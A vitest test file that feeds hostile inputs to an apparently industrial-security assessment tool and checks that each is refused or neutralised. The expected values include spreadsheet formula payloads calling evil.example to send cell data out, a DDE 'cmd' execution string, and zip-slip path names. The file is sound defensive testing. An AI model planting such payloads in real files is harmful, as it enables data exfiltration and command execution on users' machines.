import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/run';
import { DB_FILE_NAME } from '../../src/main/db/openDatabase';
import { verifyPackage } from '../../src/main/services/package/verify';
import { openTestWorkspace, tempDir } from '../helpers/workspace';

const HOSTILE = path.resolve('test/fixtures/hostile');
const fixture = (name: string) => path.join(HOSTILE, name);
const bytes = (name: string) => ({
  fileName: name,
  base64: fs.readFileSync(fixture(name)).toString('base64'),
});

async function cli(args: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await runCli(args, { env: {}, stdout: (s) => (stdout += s), stderr: (s) => (stderr += s) });
  return { code, stdout, stderr };
}

function plantWithZone() {
  const ws = openTestWorkspace();
  const a = ws.services.assessments.create({ title: 'Hostile' });
  const level = 2 as const;
  ws.services.zones.create(a.id, {
    name: 'Control',
    description: '',
    slTarget: { FR1: level, FR2: level, FR3: level, FR4: level, FR5: level, FR6: level, FR7: level },
  });
  return { ...ws, assessmentId: a.id };
}

describe('hostile-input corpus', () => {
  it('corrupted.sqlite: refused by name and left byte-for-byte untouched', async () => {
    const dir = tempDir();
    const db = path.join(dir, DB_FILE_NAME);
    fs.copyFileSync(fixture('corrupted.sqlite'), db);
    const r = await cli(['--data-dir', dir, 'list']);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`zonewalk: ${db} is not a Zonewalk database. It was left untouched.\n`);
    expect(fs.readFileSync(db).equals(fs.readFileSync(fixture('corrupted.sqlite')))).toBe(true);
  });

  it('corrupted.jpg: stored as a file with its hash, no thumbnail, no crash', async () => {
    const { table, assessmentId } = plantWithZone();
    const added = await table['evidence.addBytes']({ assessmentId, ...bytes('corrupted.jpg') });
    expect(added).toMatchObject({
      ok: true,
      value: { status: 'added', item: { mediaType: 'image/jpeg', size: 431 } },
    });
    const sha = (added as { value: { item: { sha256: string } } }).value.item.sha256;
    expect(await table['evidence.thumbnail']({ sha256: sha })).toEqual({
      ok: true,
      value: { dataUrl: null },
    });
  });

  it('nested-arrays.json: one sentence naming the file, nothing imported', async () => {
    const dir = tempDir();
    const r = await cli(['--data-dir', dir, 'import', fixture('nested-arrays.json')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      `zonewalk: ${fixture('nested-arrays.json')} is not a valid Zonewalk assessment: (root): expected a JSON object.\n`,
    );
    expect((await cli(['--data-dir', dir, 'list', '--json'])).stdout.trim()).toBe('[]');
  });

  it('a 200 MB string: refused at the field that carries it, nothing imported', async () => {
    const dir = tempDir();
    const file = path.join(tempDir(), 'huge.json');
    const fd = fs.openSync(file, 'w');
    fs.writeSync(fd, '{"format":"zonewalk.assessment/1","assessment":{"id":"a1","title":"');
    const chunk = 'A'.repeat(1 << 20);
    for (let i = 0; i < 200; i++) fs.writeSync(fd, chunk);
    fs.writeSync(fd, '"}}');
    fs.closeSync(fd);
    const r = await cli(['--data-dir', dir, 'import', file]);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      `zonewalk: ${file} is not a valid Zonewalk assessment: assessment.title: At most 200 characters.\n`,
    );
    expect((await cli(['--data-dir', dir, 'list', '--json'])).stdout.trim()).toBe('[]');
  }, 60_000);

  it('formula-injection.csv: every formula is stored as inert text', async () => {
    const { table, services, assessmentId } = plantWithZone();
    const preview = await table['assets.importPreview']({
      assessmentId,
      file: bytes('formula-injection.csv'),
    });
    expect(preview.ok).toBe(true);
    const mapping = (preview as { value: { suggestedMapping: Record<string, string> } }).value
      .suggestedMapping;
    expect(
      await table['assets.importApply']({ assessmentId, file: bytes('formula-injection.csv'), mapping }),
    ).toEqual({
      ok: true,
      value: { imported: 3, errors: [] },
    });
    expect(services.assets.list(assessmentId).map((x) => [x.name, x.vendor])).toEqual(
      expect.arrayContaining([
        ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'Siemens'],
        ['+cmd|" /C calc"!A0', '@SUM(1+1)'],
        ['-2+3', 'Moxa'],
      ]),
    );
  });

  it('external-links.xlsx: the link is never followed; formulas become their text', async () => {
    const { table, services, assessmentId } = plantWithZone();
    const preview = await table['assets.importPreview']({ assessmentId, file: bytes('external-links.xlsx') });
    const mapping = (preview as { value: { suggestedMapping: Record<string, string> } }).value
      .suggestedMapping;
    expect(
      await table['assets.importApply']({ assessmentId, file: bytes('external-links.xlsx'), mapping }),
    ).toEqual({
      ok: true,
      value: { imported: 2, errors: [] },
    });
    const assets = services.assets.list(assessmentId).map((x) => [x.name, x.vendor]);
    expect(assets).toEqual(
      expect.arrayContaining([
        ["='[1]Secret'!A1", 'Siemens'],
        ['HMI-1', '=WEBSERVICE("http://evil.example/x")'],
      ]),
    );
    expect(JSON.stringify(assets)).not.toContain('PLC-EXT'); // the cached result of the external formula
  });

  const bag = 'plant_20261126T080000Z.audit';
  it.each([
    [
      'zip-slip.zip',
      1,
      `Entry "${bag}/../../../tmp/zonewalk-slip.txt" leaves its folder with '..'; it would land outside the package folder.`,
    ],
    [
      'absolute-path.zip',
      1,
      'Entry "/tmp/zonewalk-absolute.txt" is an absolute path; it would land outside the package folder.',
    ],
    [
      'symlink.zip',
      1,
      `Entry "${bag}/data/evidence/passwd" is a symbolic link; packages hold only plain files.`,
    ],
    ['duplicate-names.zip', 1, `Entry "${bag}/data/assessment.json" appears twice in the zip.`],
    [
      'zip-bomb.zip',
      1,
      `Entry "${bag}/data/evidence/zeros.bin" expands 1029 times (65232 to 67108864 bytes), more than the 200 allowed (a zip bomb?).`,
    ],
    [
      'truncated.zip',
      2,
      'truncated.zip is not a readable ZIP file (End of central directory record signature not found. Either not a zip file, or file is truncated.); it may be truncated or not a package at all.',
    ],
  ])('%s: verify refuses it with exit %i and says why, writing nothing', async (name, exitCode, reason) => {
    const inbox = tempDir();
    const file = path.join(inbox, name);
    fs.copyFileSync(fixture(name), file);
    const report = await verifyPackage(file);
    expect(report.exitCode).toBe(exitCode);
    expect(report.reasons[0]).toBe(reason);
    expect(fs.readdirSync(inbox)).toEqual([name]);
    expect(fs.existsSync('/tmp/zonewalk-slip.txt')).toBe(false);
    expect(fs.existsSync('/tmp/zonewalk-absolute.txt')).toBe(false);
  });
});
